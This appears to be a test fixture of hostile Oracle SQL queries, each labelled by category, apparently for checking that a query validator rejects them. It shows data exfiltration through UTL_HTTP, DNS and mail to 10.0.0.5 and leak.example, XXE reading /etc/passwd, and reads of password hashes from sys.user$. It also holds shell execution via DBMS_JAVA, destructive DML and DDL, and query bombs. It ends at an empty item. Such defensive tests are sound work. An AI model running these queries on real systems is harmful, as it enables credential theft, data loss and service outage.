-- O-NET-01: outgoing HTTP request carries data away
SELECT UTL_HTTP.REQUEST('http://10.0.0.5/?d=' || title) FROM v_incident WHERE ROWNUM = 1
;;
-- O-NET-02: DNS lookup carries the account name away
SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT USER FROM dual) || '.leak.example') FROM dual
;;
-- O-NET-03: outgoing HTTP request through an object type
SELECT incident_id, HTTPURITYPE('http://10.0.0.5/' || incident_id).GETCLOB() FROM v_incident
;;
-- O-NET-04: outgoing LDAP connection, name leaks through DNS
SELECT DBMS_LDAP.INIT(reported_by || '.leak.example', 389) FROM v_incident FETCH FIRST 1 ROWS ONLY
;;
-- O-NET-05: raw TCP connection
WITH FUNCTION f RETURN NUMBER IS c UTL_TCP.CONNECTION; BEGIN c := UTL_TCP.OPEN_CONNECTION('10.0.0.5', 25); RETURN UTL_TCP.AVAILABLE(c); END; SELECT f FROM v_incident
;;
-- O-NET-06: URI factory opens an outgoing request
SELECT SYS.URIFACTORY.GETURI('http://10.0.0.5/' || external_id).GETCLOB() FROM v_incident
;;
-- O-NET-07: REST call through APEX
SELECT APEX_WEB_SERVICE.MAKE_REST_REQUEST(p_url => 'http://10.0.0.5/', p_http_method => 'POST', p_body => description) FROM v_incident
;;
-- O-NET-08: REST call through DBMS_CLOUD
SELECT DBMS_CLOUD.GET_OBJECT(credential_name => 'C', object_uri => 'https://leak.example/o') FROM v_incident
;;
-- O-NET-09: language model inside the database runs SQL of its own
SELECT DBMS_CLOUD_AI.GENERATE(prompt => 'delete every incident', profile_name => 'P', action => 'runsql') FROM dual
;;
-- O-NET-10: text is sent to an outer embedding service
SELECT DBMS_VECTOR_CHAIN.UTL_TO_EMBEDDING(description, JSON('{"provider":"x","url":"http://10.0.0.5/"}')) FROM v_incident
;;
-- O-NET-11: package name split by comments
SELECT UTL_HTTP/**/./**/REQUEST('http://10.0.0.5/') FROM v_incident
;;
-- O-NET-12: package name in quotation marks
SELECT "UTL_HTTP"."REQUEST"('http://10.0.0.5/') FROM v_incident
;;
-- O-NET-13: table alias named as the package, so the call looks like a column of the view
SELECT utl_http.request('http://10.0.0.5/') FROM v_incident utl_http
;;
-- O-NET-14: package with its schema, in a condition only
SELECT title FROM v_incident WHERE SYS.UTL_HTTP.REQUEST('http://10.0.0.5/' || incident_id) IS NOT NULL
;;
-- O-NET-15: request hidden in ORDER BY
SELECT title FROM v_incident ORDER BY UTL_HTTP.REQUEST('http://10.0.0.5/' || title)
;;
-- O-NET-16: request hidden in the frame of a window
SELECT SUM(loss_rub) OVER (PARTITION BY UTL_INADDR.GET_HOST_NAME('10.0.0.5') ORDER BY incident_id) FROM v_incident
;;
-- O-NET-17: request hidden inside a CASE within an aggregate
SELECT MAX(CASE WHEN severity = 'critical' THEN UTL_HTTP.REQUEST('http://10.0.0.5/') END) FROM v_incident
;;
-- O-NET-18: request hidden in HAVING
SELECT region, COUNT(*) FROM v_incident GROUP BY region HAVING UTL_HTTP.REQUEST('http://10.0.0.5/' || region) = 'ok'
;;
-- O-NET-19: request hidden in the row limit
SELECT title FROM v_incident FETCH FIRST (LENGTH(UTL_HTTP.REQUEST('http://10.0.0.5/'))) ROWS ONLY
;;
-- O-NET-20: mail is sent from the database
WITH FUNCTION m (t VARCHAR2) RETURN NUMBER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN UTL_MAIL.SEND('a@x', 'b@leak.example', message => t); COMMIT; RETURN 1; END; SELECT m(description) FROM v_incident
;;
-- O-XML-01: external entity makes the server fetch an address
SELECT EXTRACTVALUE(XMLTYPE('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://10.0.0.5/x"> %x;]><r/>'), '/r') FROM v_incident
;;
-- O-XML-02: external entity reads a file
SELECT XMLTYPE('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>') FROM dual
;;
-- O-XML-03: entity expansion bomb
SELECT XMLTYPE('<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;&c;</r>').EXTRACT('/r/text()') FROM v_incident
;;
-- O-XML-04: XQuery counts to a thousand million
SELECT i.title, x.COLUMN_VALUE FROM v_incident i, XMLTABLE('for $n in 1 to 1000000000 return $n') x
;;
-- O-XML-05: XQuery reads a dictionary table
SELECT x.* FROM XMLTABLE('fn:collection("oradb:/SYS/USER$")/ROW' COLUMNS name VARCHAR2(30) PATH 'NAME') x
;;
-- O-XML-06: XQuery reads the XML repository
SELECT XMLQUERY('doc("/public/secret.xml")' RETURNING CONTENT) FROM v_incident
;;
-- O-XML-07: runs SQL given as text
SELECT DBMS_XMLGEN.GETXML('select name, spare4 from sys.user$') FROM v_incident WHERE ROWNUM = 1
;;
-- O-XML-08: runs a PL/SQL block given as text
SELECT DBMS_XMLQUERY.GETXML('declare pragma autonomous_transaction; begin execute immediate ''drop table incidents''; end;') FROM dual
;;
-- O-XML-09: reads a dictionary table by a database URI
SELECT DBURITYPE('/SYS/USER$').GETXML() FROM v_incident
;;
-- O-XML-10: reads the repository by a URI
SELECT XDBURITYPE('/home/secret.txt').GETCLOB() FROM v_incident
;;
-- O-XML-11: runs SQL given as text through an XML sequence
SELECT VALUE(t) FROM TABLE(XMLSEQUENCE(DBMS_XMLGEN.GETXMLTYPE('select * from feedback'))) t
;;
-- O-XML-12: dictionary table as pivoted XML
SELECT * FROM (SELECT owner, object_type FROM all_objects) PIVOT XML (COUNT(*) FOR object_type IN (ANY))
;;
-- O-XML-13: PIVOT XML whose list comes from a forbidden table
SELECT * FROM (SELECT region, severity FROM v_incident) PIVOT XML (COUNT(*) FOR severity IN (SELECT password FROM sys.user$))
;;
-- O-XML-14: rows multiplied by a JSON document
SELECT i.title, j.n FROM v_incident i, JSON_TABLE('[' || RPAD('1', 3999, ',1') || ']', '$[*]' COLUMNS (n NUMBER PATH '$')) j
;;
-- O-XML-15: SQL given as text, result wrapped in XML
SELECT SYS_XMLGEN(DBMS_XMLGEN.GETXMLTYPE('select sql_text from feedback')) FROM v_incident
;;
-- O-FILE-01: reads a file of the server
SELECT TO_CLOB(BFILENAME('DATA_PUMP_DIR', '../../../etc/passwd')) FROM v_incident
;;
-- O-FILE-02: inline external table over a file of the server
SELECT * FROM EXTERNAL ((line VARCHAR2(4000)) TYPE ORACLE_LOADER DEFAULT DIRECTORY DATA_PUMP_DIR LOCATION ('passwd')) x
;;
-- O-FILE-03: inline external table with a preprocessor program
SELECT * FROM EXTERNAL ((l VARCHAR2(4000)) TYPE ORACLE_LOADER DEFAULT DIRECTORY D ACCESS PARAMETERS (RECORDS DELIMITED BY NEWLINE PREPROCESSOR D:'run.sh') LOCATION ('x')) x JOIN v_incident i ON i.title = x.l
;;
-- O-FILE-04: length of a file tells whether it exists
SELECT DBMS_LOB.GETLENGTH(BFILENAME('DATA_PUMP_DIR', 'wallet.sso')) FROM dual
;;
-- O-FILE-05: file read through XMLTYPE
SELECT XMLTYPE(BFILENAME('XMLDIR', 'config.xml'), NLS_CHARSET_ID('AL32UTF8')).GETCLOBVAL() FROM v_incident
;;
-- O-FILE-06: error message of the text package carries a secret
SELECT CTXSYS.DRITHSX.SN(1, (SELECT banner FROM v$version WHERE ROWNUM = 1)) FROM v_incident
;;
-- O-FILE-07: data pump starts from a function
SELECT DBMS_DATAPUMP.OPEN('EXPORT', 'SCHEMA') FROM v_incident
;;
-- O-FILE-08: Java class runs a program of the system
SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id') FROM v_incident
;;
-- O-FILE-09: opens a file for writing
WITH FUNCTION f RETURN NUMBER IS h UTL_FILE.FILE_TYPE; BEGIN h := UTL_FILE.FOPEN('DATA_PUMP_DIR', 'x.txt', 'w'); UTL_FILE.FCLOSE(h); RETURN 1; END; SELECT f FROM v_incident
;;
-- O-SLEEP-01: holds the session for an hour
SELECT DBMS_PIPE.RECEIVE_MESSAGE('azs', 3600) FROM v_incident
;;
-- O-SLEEP-02: holds the session once per row
SELECT title FROM v_incident WHERE DBMS_PIPE.RECEIVE_MESSAGE(CHR(97), 10) = 1
;;
-- O-SLEEP-03: sleeps in an inline function
WITH FUNCTION z RETURN NUMBER IS BEGIN DBMS_SESSION.SLEEP(3600); RETURN 1; END; SELECT z FROM v_incident
;;
-- O-SLEEP-04: takes a user lock
SELECT DBMS_LOCK.REQUEST(1, 6, 3600, FALSE) FROM dual
;;
-- O-SLEEP-05: waits for an alert of another session
WITH FUNCTION w RETURN NUMBER IS m VARCHAR2(2000); s NUMBER; BEGIN DBMS_ALERT.REGISTER('azs'); DBMS_ALERT.WAITONE('azs', m, s, 3600); RETURN s; END; SELECT w FROM v_incident
;;
-- O-PLSQL-01: inline function deletes data in its own transaction
WITH FUNCTION f RETURN NUMBER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN EXECUTE IMMEDIATE 'delete from incidents'; COMMIT; RETURN 1; END; SELECT f FROM dual
;;
-- O-PLSQL-02: inline procedure and function, ordinary CTE after them
WITH PROCEDURE p IS BEGIN EXECUTE IMMEDIATE 'truncate table actions'; END; FUNCTION f RETURN NUMBER IS BEGIN p; RETURN 1; END; c AS (SELECT COUNT(*) n FROM v_incident) SELECT n, f() FROM c
;;
-- O-PLSQL-03: inline function switched on by a hint in a subquery
SELECT /*+ WITH_PLSQL */ * FROM (WITH FUNCTION f(x NUMBER) RETURN NUMBER IS BEGIN LOOP NULL; END LOOP; RETURN x; END; SELECT f(incident_id) FROM v_incident)
;;
-- O-PLSQL-04: anonymous block
BEGIN DELETE FROM incidents; COMMIT; END;
;;
-- O-PLSQL-05: anonymous block with a declaration
DECLARE n NUMBER; BEGIN SELECT COUNT(*) INTO n FROM v_incident; EXECUTE IMMEDIATE 'drop table incidents purge'; END;
;;
-- O-PLSQL-06: call of a procedure
CALL DBMS_SCHEDULER.RUN_JOB('PURGE_INCIDENTS')
;;
-- O-PLSQL-07: function of a company's package changes data
SELECT azs_pkg.close_all_incidents() FROM v_incident
;;
-- O-PLSQL-08: function without brackets looks like a column
SELECT incident_id, wipe_incidents FROM v_incident
;;
-- O-PLSQL-09: package function without brackets looks like a qualified column
SELECT azs_pkg.close_all FROM v_incident
;;
-- O-PLSQL-10: own function in quotation marks
SELECT "CLOSE_INCIDENT"(incident_id) FROM v_incident
;;
-- O-PLSQL-11: pipelined function writes data
SELECT * FROM TABLE(azs_pkg.pipelined_writer())
;;
-- O-PLSQL-12: pipelined function joined to a view, without the word TABLE
SELECT i.title FROM v_incident i JOIN azs_pkg.rows_of(1) r ON r.id = i.incident_id
;;
-- O-PLSQL-13: polymorphic table function gets a view
SELECT * FROM azs_ptf(v_incident, COLUMNS(title, description))
;;
-- O-PLSQL-14: old-style function call with braces, executed by drivers
{call close_all_incidents()}
;;
-- O-PLSQL-15: method of an object type
SELECT azs_writer_t(incident_id).save() FROM v_incident
;;
-- O-PLSQL-16: SQL*Plus command
EXEC azs_pkg.close_all_incidents
;;
-- O-PLSQL-17: runs SQL given as text through a cursor
SELECT DBMS_SQL.TO_CURSOR_NUMBER(CURSOR(SELECT * FROM feedback)) FROM v_incident
;;
-- O-LINK-01: database link
SELECT * FROM v_incident@prod_link
;;
-- O-LINK-02: database link with a domain and spaces
SELECT i.title FROM v_incident i JOIN v_action @ prod.example.com a ON a.incident_id = i.incident_id
;;
-- O-LINK-03: remote function
SELECT get_salary@hr_link(1) FROM v_incident
;;
-- O-LINK-04: the link in a subquery of WHERE
SELECT title FROM v_incident WHERE reported_by IN (SELECT username FROM all_users@prod_link)
;;
-- O-LINK-05: link with the name in quotation marks
SELECT title FROM v_incident@"PROD_LINK"
;;
-- O-LOCK-01: locks rows
SELECT * FROM v_incident FOR UPDATE
;;
-- O-LOCK-02: locks rows of one column, without waiting
SELECT incident_id FROM v_incident FOR UPDATE OF status NOWAIT
;;
-- O-LOCK-03: takes rows away from other sessions
SELECT incident_id FROM v_incident WHERE status = 'new' FOR UPDATE SKIP LOCKED
;;
-- O-LOCK-04: locks a table
LOCK TABLE incidents IN EXCLUSIVE MODE
;;
-- O-FLASH-01: flashback reads deleted data
SELECT * FROM v_incident AS OF TIMESTAMP (SYSTIMESTAMP - INTERVAL '1' DAY)
;;
-- O-FLASH-02: flashback by system change number
SELECT title FROM v_incident AS OF SCN 1234567
;;
-- O-FLASH-03: history of row versions
SELECT versions_xid, versions_operation, title FROM v_incident VERSIONS BETWEEN SCN MINVALUE AND MAXVALUE
;;
-- O-FLASH-04: history by the time of validity
SELECT title FROM v_incident AS OF PERIOD FOR valid_time SYSDATE - 30
;;
-- O-HINT-01: hint takes 64 processes
SELECT /*+ PARALLEL(i 64) */ category, COUNT(*) FROM v_incident i GROUP BY category
;;
-- O-HINT-02: the same hint after two dashes
SELECT --+ PARALLEL(64)
title FROM v_incident
;;
-- O-HINT-03: hint in a subquery turns the optimiser off
SELECT title FROM (SELECT /*+ RULE FULL(i) NO_MERGE USE_NL(i) */ * FROM v_incident i)
;;
-- O-HINT-04: hint changes an optimiser parameter
SELECT /*+ OPT_PARAM('_optimizer_cartesian_enabled' 'true') MONITOR */ COUNT(*) FROM v_incident
;;
-- O-HINT-05: hint keeps the result in the shared memory
SELECT /*+ RESULT_CACHE (SNAPSHOT=36000000) */ * FROM v_incident
;;
-- O-BOMB-01: a thousand million generated rows
SELECT LEVEL FROM dual CONNECT BY LEVEL <= 1000000000
;;
-- O-BOMB-02: hierarchy without PRIOR over a view grows as a power of its rows
SELECT COUNT(*) FROM v_incident CONNECT BY LEVEL <= 12
;;
-- O-BOMB-03: hierarchy with a condition that never stops
SELECT title FROM v_incident START WITH incident_id = 1 CONNECT BY NOCYCLE 1 = 1
;;
-- O-BOMB-04: recursive CTE without the word RECURSIVE never stops
WITH r (n) AS (SELECT 1 FROM dual UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r
;;
-- O-BOMB-05: recursive CTE over a view
WITH r (incident_id, n) AS (SELECT incident_id, 1 FROM v_incident UNION ALL SELECT r.incident_id, r.n + 1 FROM r JOIN v_incident i ON i.incident_id = r.incident_id) SELECT MAX(n) FROM r
;;
-- O-BOMB-06: recursive CTE beside an ordinary one
WITH m AS (SELECT MAX(loss_rub) AS x FROM v_incident), r (n) AS (SELECT x FROM m UNION ALL SELECT n + 1 FROM r WHERE n < 1e30) SELECT COUNT(*) FROM r
;;
-- O-BOMB-07: product of three views, commas
SELECT COUNT(*) FROM v_incident a, v_incident b, v_incident c
;;
-- O-BOMB-08: product of views, CROSS JOIN
SELECT COUNT(*) FROM v_incident a CROSS JOIN v_station_day b CROSS JOIN v_action c
;;
-- O-BOMB-09: join on a constant
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON 1 = 1
;;
-- O-BOMB-10: join on a condition about one side
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON a.station_code = a.station_code
;;
-- O-BOMB-11: join on a constant of one side
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON b.region = 'Самарская область'
;;
-- O-BOMB-12: natural join without a common column is a product
SELECT COUNT(*) FROM v_incident NATURAL JOIN (SELECT day FROM v_station_day)
;;
-- O-BOMB-13: left join on a truth
SELECT COUNT(*) FROM v_incident a LEFT JOIN v_station_day b ON 'x' = 'x'
;;
-- O-BOMB-14: join on an inequality only
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON a.loss_rub > b.litres_sold
;;
-- O-BOMB-15: equality weakened by OR
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON a.station_code = b.station_code OR 1 = 1
;;
-- O-BOMB-16: full outer join with negation
SELECT COUNT(*) FROM v_incident a FULL OUTER JOIN v_station_day b ON NOT a.station_code = b.station_code
;;
-- O-BOMB-17: commas with a condition that links two of three only
SELECT COUNT(*) FROM v_incident a, v_station_day b, v_action c WHERE a.station_code = b.station_code
;;
-- O-BOMB-18: equality of constants computed from both sides
SELECT COUNT(*) FROM v_incident a JOIN v_station_day b ON a.incident_id * 0 = b.transactions * 0
;;
-- O-BOMB-19: product hidden in a subquery of WHERE
SELECT title FROM v_incident WHERE incident_id = (SELECT COUNT(*) FROM v_station_day x, v_station_day y)
;;
-- O-BOMB-20: product hidden in a CTE that nobody reads
WITH boom AS (SELECT a.title FROM v_incident a CROSS JOIN v_station_day b) SELECT (SELECT COUNT(*) FROM boom) AS n FROM dual
;;
-- O-BOMB-21: LATERAL pairs every row with every row
SELECT COUNT(*) FROM v_incident i, LATERAL (SELECT * FROM v_station_day d WHERE d.litres_sold >= 0) x
;;
-- O-BOMB-22: CROSS APPLY pairs every row with every row
SELECT COUNT(*) FROM v_incident i CROSS APPLY (SELECT * FROM v_station_day d WHERE d.transactions > i.people_injured) x
;;
-- O-BOMB-23: every row builds long texts out of nothing
SELECT LENGTH(REPLACE(RPAD('a', 4000, 'a'), 'a', TO_CLOB(RPAD('b', 4000, 'b')))) FROM v_incident
;;
-- O-BOMB-24: texts multiply one another
SELECT REPLACE(REPLACE(TO_CLOB(LPAD('a', 4000, 'a')), 'a', LPAD('b', 4000, 'b')), 'b', LPAD('c', 4000, 'c')) FROM dual
;;
-- O-BOMB-25: regular expression with exponential backtracking
SELECT title FROM v_incident WHERE REGEXP_LIKE(RPAD('a', 200, 'a') || '!', '^(a+)+$')
;;
-- O-BOMB-26: regular expression with exponential backtracking in a replacement
SELECT REGEXP_REPLACE(description, '^(([а-я ]+)*)*(.*)*\1$', '') FROM v_incident
;;
-- O-BOMB-27: over a million grouping sets
SELECT COUNT(*) FROM v_incident GROUP BY CUBE (title, category, department, severity, status, source, reported_by, root_cause, region, city, station_code, station_name, station_format, equipment_kind, equipment_model, equipment_serial, is_open, sla_kept, sla_h, external_id)
;;
-- O-BOMB-28: MODEL clause iterates four thousand million times
SELECT n FROM v_incident MODEL DIMENSION BY (incident_id d) MEASURES (0 n) RULES ITERATE (4294967295) (n[1] = n[1] + 1)
;;
-- O-BOMB-29: MODEL clause makes rows
SELECT d, n FROM dual MODEL DIMENSION BY (0 d) MEASURES (0 n) RULES UPSERT (n[FOR d FROM 1 TO 1000000000 INCREMENT 1] = 1)
;;
-- O-BOMB-30: row pattern with exponential backtracking
SELECT * FROM v_incident MATCH_RECOGNIZE (ORDER BY reported_at MEASURES COUNT(*) AS n PATTERN (((a+ b*)+ a*)+ z) DEFINE a AS loss_rub >= 0, b AS loss_rub >= 0, z AS loss_rub < -1)
;;
-- O-BOMB-31: eight-fold self join on a column of few values
SELECT COUNT(*) FROM v_incident a JOIN v_incident b ON a.severity = b.severity JOIN v_incident c ON b.severity = c.severity JOIN v_incident d ON c.severity = d.severity JOIN v_incident e ON d.severity = e.severity JOIN v_incident f ON e.severity = f.severity JOIN v_incident g ON f.severity = g.severity JOIN v_incident h ON g.severity = h.severity
;;
-- O-BOMB-32: collections multiply rows
SELECT COUNT(*) FROM v_incident i, TABLE(SYS.ODCINUMBERLIST(1, 2, 3, 4, 5, 6, 7, 8)) a, TABLE(SYS.ODCINUMBERLIST(1, 2, 3, 4, 5, 6, 7, 8)) b
;;
-- O-BOMB-33: generated rows hidden in MULTISET
SELECT CAST(MULTISET(SELECT LEVEL FROM dual CONNECT BY LEVEL <= 100000000) AS SYS.ODCINUMBERLIST) FROM v_incident
;;
-- O-BOMB-34: all texts are collected in memory
SELECT CAST(COLLECT(description) AS SYS.ODCIVARCHAR2LIST) FROM v_incident
;;
-- O-BOMB-35: cursors opened once per row
SELECT title, CURSOR(SELECT * FROM v_action a) FROM v_incident
;;
-- O-BOMB-36: join on a sum that no index or hash can serve
SELECT COUNT(*) FROM v_incident a JOIN v_incident b ON a.loss_rub + b.loss_rub = 1000
;;
-- O-BOMB-37: join on similarity of texts
SELECT COUNT(*) FROM v_incident a JOIN v_incident b ON a.description LIKE '%' || b.title || '%'
;;
-- O-BOMB-38: ROWNUM as a generator over a product of the dictionary
SELECT ROWNUM FROM all_objects, all_objects, v_incident
;;
-- O-SEQ-01: moves a sequence
SELECT incident_seq.NEXTVAL FROM v_incident
;;
-- O-SEQ-02: reads a sequence
SELECT incident_seq.CURRVAL FROM dual
;;
-- O-SEQ-03: moves a sequence, name in quotation marks
SELECT "AZS"."INCIDENT_SEQ"."NEXTVAL" FROM v_incident
;;
-- O-DICT-01: password hashes
SELECT name, password, spare4 FROM sys.user$
;;
-- O-DICT-02: password hashes, quoted names
SELECT "NAME", "SPARE4" FROM "SYS"."USER$"
;;
-- O-DICT-03: dictionary added with UNION
SELECT title, description FROM v_incident UNION ALL SELECT username, account_status FROM dba_users
;;
-- O-DICT-04: dictionary after a condition that looks honest
SELECT title FROM v_incident WHERE is_open = 1 OR 'a' = 'a' UNION SELECT table_name FROM user_tables
;;
-- O-DICT-05: dictionary in MINUS
SELECT title FROM v_incident MINUS SELECT object_name FROM all_objects
;;
-- O-DICT-06: dictionary in the list of columns
SELECT title, (SELECT MAX(name) FROM sys.user$) AS x FROM v_incident
;;
-- O-DICT-07: dictionary in WHERE
SELECT title FROM v_incident WHERE EXISTS (SELECT 1 FROM dba_role_privs WHERE granted_role = 'DBA')
;;
-- O-DICT-08: dictionary in ORDER BY
SELECT title FROM v_incident ORDER BY (SELECT CASE WHEN MAX(SUBSTR(spare4, 1, 1)) = 'S' THEN 1 ELSE 2 END FROM sys.user$)
;;
-- O-DICT-09: dictionary in HAVING
SELECT region, COUNT(*) FROM v_incident GROUP BY region HAVING COUNT(*) > (SELECT COUNT(*) FROM all_tables)
;;
-- O-DICT-10: dictionary in a join condition
SELECT i.title FROM v_incident i JOIN v_action a ON a.incident_id = i.incident_id AND a.performed_by = (SELECT MIN(username) FROM all_users)
;;
-- O-DICT-11: running statements of other sessions
SELECT sql_text FROM v$sql
;;
-- O-DICT-12: sessions, names in another case
SELECT Username, Machine FROM Gv$Session
;;
-- O-DICT-13: text of the views
SELECT text FROM user_views WHERE view_name = 'V_INCIDENT'
;;
-- O-DICT-14: text of an object from the metadata package
SELECT DBMS_METADATA.GET_DDL('VIEW', 'V_INCIDENT') FROM v_incident
;;
-- O-DICT-15: fixed tables
SELECT * FROM x$ksppi
;;
-- O-DICT-16: short names of the dictionary
SELECT * FROM tab, v_incident
;;
-- O-DICT-17: plan of the last statement tells about other sessions
SELECT * FROM TABLE(DBMS_XPLAN.DISPLAY_CURSOR())
;;
-- O-DICT-18: view of all containers
SELECT con_id, title FROM CONTAINERS(v_incident)
;;
-- O-DICT-19: dictionary in a CASE within a CTE
WITH c AS (SELECT CASE WHEN (SELECT COUNT(*) FROM user_sys_privs) > 0 THEN title END AS t FROM v_incident) SELECT t FROM c
;;
-- O-DICT-20: dictionary in the argument of a window function
SELECT LAG(title, (SELECT COUNT(*) FROM all_db_links)) OVER (ORDER BY incident_id) FROM v_incident
;;
-- O-DICT-21: dictionary compared with ALL
SELECT title FROM v_incident WHERE reported_by = ANY (SELECT username FROM all_users) AND incident_id >= ALL (SELECT user_id FROM all_users)
;;
-- O-TABLE-01: table of the application
SELECT * FROM incidents
;;
-- O-TABLE-02: table of the application with its schema
SELECT * FROM azs.incidents
;;
-- O-TABLE-03: table of the application joined to a view
SELECT i.title, f.question FROM v_incident i JOIN feedback f ON f.language = i.source
;;
-- O-TABLE-04: view in another schema
SELECT title FROM sys.v_incident
;;
-- O-TABLE-05: view in the attacker's schema
SELECT title FROM scott.v_incident
;;
-- O-TABLE-06: lower-case quoted name is a different object in Oracle
SELECT * FROM "v_incident"
;;
-- O-TABLE-07: name with a space at the end is a different object
SELECT * FROM "V_INCIDENT "
;;
-- O-TABLE-08: schema, dot and view in one quoted name
SELECT * FROM "SYS.USER$", "MAIN"."V_INCIDENT"
;;
-- O-TABLE-09: partition of a table of the application
SELECT * FROM incidents PARTITION (p2026)
;;
-- O-TABLE-10: sample of a table of the application
SELECT * FROM incidents SAMPLE BLOCK (5)
;;
-- O-TABLE-11: table in an inline view
SELECT t.question FROM (SELECT * FROM (SELECT * FROM feedback)) t
;;
-- O-TABLE-12: table in brackets
SELECT * FROM (incidents)
;;
-- O-TABLE-13: table under ONLY
SELECT * FROM ONLY (incidents)
;;
-- O-TABLE-14: view name used as an alias of a table
SELECT v_incident.title FROM incidents v_incident
;;
-- O-TABLE-15: settings of the application
SELECT value FROM app_info WHERE name = 'schema_version'
;;
-- O-TABLE-16: name of a view as a prefix only
SELECT * FROM v_incident_raw
;;
-- O-TABLE-17: public synonym
SELECT * FROM "PUBLIC".v_incident
;;
-- O-TABLE-18: whole table by the word TABLE
SELECT * FROM v_incident i JOIN (TABLE imports) m ON m.source = i.source
;;
-- O-CTE-01: CTE takes the name of a view and reads a dictionary table
WITH v_incident AS (SELECT name AS title FROM sys.user$) SELECT title FROM v_incident
;;
-- O-CTE-02: CTE takes the name of a view with quotation marks
WITH "V_INCIDENT" AS (SELECT question AS title FROM feedback) SELECT title FROM v_incident
;;
-- O-CTE-03: a name made known in an inner query is used outside of it
SELECT i.title, (SELECT MAX(x) FROM (WITH incidents AS (SELECT 1 AS x FROM dual) SELECT x FROM incidents)) AS n FROM incidents i
;;
-- O-CTE-04: a name is used before the CTE that defines it, so it is the table
WITH a AS (SELECT * FROM incidents), incidents AS (SELECT 1 AS x FROM dual) SELECT * FROM a
;;
-- O-CTE-05: CTE has the name of a table, the query reads the table with its schema
WITH incidents AS (SELECT title FROM v_incident) SELECT title FROM azs.incidents
;;
-- O-CTE-06: lower-case quoted CTE does not hide the table
WITH "incidents" AS (SELECT title FROM v_incident) SELECT title FROM incidents
;;
-- O-CTE-07: CTE of one branch of UNION is used in the other
(WITH feedback AS (SELECT title AS question FROM v_incident) SELECT question FROM feedback) UNION ALL SELECT question FROM feedback
;;
-- O-CTE-08: search clause of an endless recursion
WITH t (id, lvl) AS (SELECT incident_id, 0 FROM v_incident UNION ALL SELECT id, lvl + 1 FROM t) SEARCH DEPTH FIRST BY id SET o SELECT id FROM t
;;
-- O-ENV-01: environment of the session
SELECT SYS_CONTEXT('USERENV', 'IP_ADDRESS'), SYS_CONTEXT('USERENV', 'DB_NAME') FROM v_incident
;;
-- O-ENV-02: environment, older function
SELECT USERENV('SESSIONID'), title FROM v_incident
;;
-- O-ENV-03: name of the account
SELECT USER, UID FROM v_incident
;;
-- O-ENV-04: name of the database, looks like a column
SELECT SYS.DATABASE_NAME, ORA_DATABASE_NAME FROM v_incident
;;
-- O-ENV-05: machine's addresses
SELECT UTL_INADDR.GET_HOST_NAME, UTL_INADDR.GET_HOST_ADDRESS FROM dual
;;
-- O-COL-01: physical address of the row
SELECT ROWID, title FROM v_incident
;;
-- O-COL-02: change number of the row
SELECT i.ORA_ROWSCN, i.title FROM v_incident i
;;
-- O-COL-03: object identifier
SELECT OBJECT_ID, OBJECT_VALUE, title FROM v_incident
;;
-- O-COL-04: column that the contract does not have
SELECT title, import_source FROM v_incident
;;
-- O-COL-05: column outside of the contract in a condition
SELECT title FROM v_incident WHERE station_id IN (1, 2)
;;
-- O-COL-06: column outside of the contract in ORDER BY
SELECT title FROM v_incident ORDER BY equipment_id
;;
-- O-COL-07: column of one view taken from another
SELECT d.loss_rub FROM v_station_day d
;;
-- O-COL-08: column outside of the contract through USING
SELECT COUNT(*) FROM v_incident JOIN v_action USING (row_secret)
;;
-- O-COL-09: quoted lower-case column is another column
SELECT "title", "password" FROM v_incident
;;
-- O-COL-10: attribute of an object column
SELECT i.title.hidden_attr FROM v_incident i
;;
-- O-COL-11: column outside of the contract through an inline view
SELECT x.secret FROM (SELECT i.*, i.type_id AS secret FROM v_incident i) x
;;
-- O-DML-01: delete
DELETE FROM v_incident WHERE incident_id = 1
;;
-- O-DML-02: update
UPDATE v_incident SET status = 'closed'
;;
-- O-DML-03: insert
INSERT INTO v_action (action_id, incident_id) SELECT incident_id, incident_id FROM v_incident
;;
-- O-DML-04: insert in many tables
INSERT ALL INTO incidents (incident_id) VALUES (1) INTO actions (action_id) VALUES (1) SELECT * FROM dual
;;
-- O-DML-05: merge
MERGE INTO incidents t USING v_incident s ON (t.incident_id = s.incident_id) WHEN MATCHED THEN UPDATE SET t.status = 'closed'
;;
-- O-DML-06: truncate
TRUNCATE TABLE incidents
;;
-- O-DML-07: select into a variable
SELECT title INTO :x FROM v_incident WHERE incident_id = 1
;;
-- O-DML-08: delete of an inline view
DELETE FROM (SELECT * FROM v_incident WHERE is_open = 1)
;;
-- O-DML-09: update returns data
UPDATE incidents SET status = 'closed' RETURNING title INTO :t
;;
-- O-DDL-01: drop
DROP VIEW v_incident
;;
-- O-DDL-02: a view replaced by a table of the dictionary
CREATE OR REPLACE VIEW v_incident AS SELECT * FROM sys.user$
;;
-- O-DDL-03: copy of the data
CREATE TABLE leak AS SELECT * FROM v_incident
;;
-- O-DDL-04: rights
GRANT SELECT ON v_incident TO PUBLIC
;;
-- O-DDL-05: rights taken away
REVOKE SELECT ON v_incident FROM azs_reader
;;
-- O-DDL-06: comment on a table
COMMENT ON TABLE v_incident IS 'x'
;;
-- O-DDL-07: audit switched off
NOAUDIT SELECT ON v_incident
;;
-- O-DDL-08: audit
AUDIT SELECT ON v_incident BY ACCESS
;;
-- O-DDL-09: statistics
ANALYZE TABLE incidents COMPUTE STATISTICS
;;
-- O-DDL-10: bin emptied
PURGE RECYCLEBIN
;;
-- O-DDL-11: table set back in time
FLASHBACK TABLE incidents TO BEFORE DROP
;;
-- O-DDL-12: rename
RENAME v_incident TO v_old
;;
-- O-DDL-13: a database link made
CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING 'x'
;;
-- O-DDL-14: a trigger made
CREATE TRIGGER t AFTER INSERT ON incidents BEGIN NULL; END;
;;
-- O-SES-01: session changed
